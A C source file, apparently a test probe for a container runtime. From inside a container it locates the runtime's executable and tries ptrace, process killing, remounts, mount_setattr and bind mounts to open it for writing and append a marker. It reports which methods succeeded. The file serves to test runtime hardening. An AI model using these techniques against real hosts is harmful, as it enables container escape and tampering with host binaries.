/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Somebody inside a container who wants the runtime's program: takes hold of the file of a process
 * that is not of this image, tries all ways to get it open for writing, and says which one worked.
 *
 *     unlock FILE     FILE is the program of this image
 *
 * Ways: open for writing at once and after the process has ended, through /proc/PID/exe, through a
 * descriptor, after a remount and after mount_setattr(2) took the read-only flag away, through a
 * bind of it. Output: "caught NAME", then "written HOW" for each that worked, then "done".
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SECONDS     20
#define WRITE_TRIES 4000

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

struct target {
	int pid;
	int fd;
	char path[64];
};

static void nap(void)
{
	const struct timespec ms = { .tv_nsec = 1000000 };

	(void)nanosleep(&ms, NULL);
}

static bool is_prey(const char *exe, const struct stat *ours)
{
	struct stat st;

	return stat(exe, &st) == 0 && (st.st_dev != ours->st_dev || st.st_ino != ours->st_ino);
}

static bool find(const struct stat *ours, struct target *t)
{
	DIR *d = opendir("/proc");
	const struct dirent *entry;
	bool found = false;

	while (d && !found && (entry = readdir(d))) {
		t->pid = atoi(entry->d_name);
		if (t->pid <= 1 || t->pid == getpid())
			continue;
		(void)snprintf(t->path, sizeof(t->path), "/proc/%d/exe", t->pid);
		if (!is_prey(t->path, ours))
			continue;
		t->fd = open(t->path, O_RDONLY);
		found = t->fd >= 0;
	}
	if (d)
		(void)closedir(d);
	return found;
}

static bool write_to(const char *path)
{
	int fd = open(path, O_WRONLY | O_APPEND);
	bool done = fd >= 0 && write(fd, "evil", 4) == 4;
	int error = errno;

	if (fd >= 0)
		(void)close(fd);
	errno = error;
	return done;
}

static void try_open(const char *how, const char *path, int tries)
{
	int error = 0;

	for (; tries > 0; tries--) {
		if (write_to(path)) {
			(void)printf("written %s\n", how);
			return;
		}
		error = errno;
		/* It still runs somewhere: that will pass. */
		if (error != ETXTBSY)
			break;
		nap();
	}
	(void)printf("refused %s: %s\n", how, strerror(error));
}

/* Take the read-only flag from the mount that the file is executed from. */
static void try_mount(const struct target *t, const char *link)
{
	struct {
		unsigned long long set, clear, propagation, userns;
	} attr = { .clear = 1 /* MOUNT_ATTR_RDONLY */ };

	(void)mount(NULL, t->path, NULL, MS_REMOUNT | MS_BIND, NULL);
	(void)mount(NULL, link, NULL, MS_REMOUNT | MS_BIND, NULL);
	(void)syscall(SYS_mount_setattr, t->fd, "", AT_EMPTY_PATH, &attr, sizeof(attr));
	try_open("after a change of the mount", link, 3);
	(void)mkdir("/tmp/m", 0755);
	(void)close(open("/tmp/f", O_CREAT | O_WRONLY, 0644));
	if (mount(link, "/tmp/f", NULL, MS_BIND, NULL) == 0) {
		(void)mount(NULL, "/tmp/f", NULL, MS_REMOUNT | MS_BIND, NULL);
		try_open("through a bind of it", "/tmp/f", 3);
	}
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + SECONDS;
	struct target t = { .fd = -1 };
	struct stat ours;
	char link[64];

	if (argc != 2 || stat(argv[1], &ours) < 0)
		return 2;
	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	while (!find(&ours, &t))
		if (time(NULL) > end)
			return (void)printf("nothing caught\n"), 1;
	(void)printf("caught %d\n", t.pid);
	(void)snprintf(link, sizeof(link), "/proc/self/fd/%d", t.fd);
	(void)ptrace(PTRACE_SEIZE, t.pid, NULL, NULL);
	try_open("while it ran", t.path, 3);
	try_mount(&t, link);
	(void)kill(t.pid, SIGKILL);
	/* Who is traced is dead for its parent only after its tracer knows. */
	(void)waitpid(t.pid, NULL, __WALL);
	try_open("after it had ended", link, WRITE_TRIES);
	try_mount(&t, link);
	(void)printf("done\n");
	return 0;
}
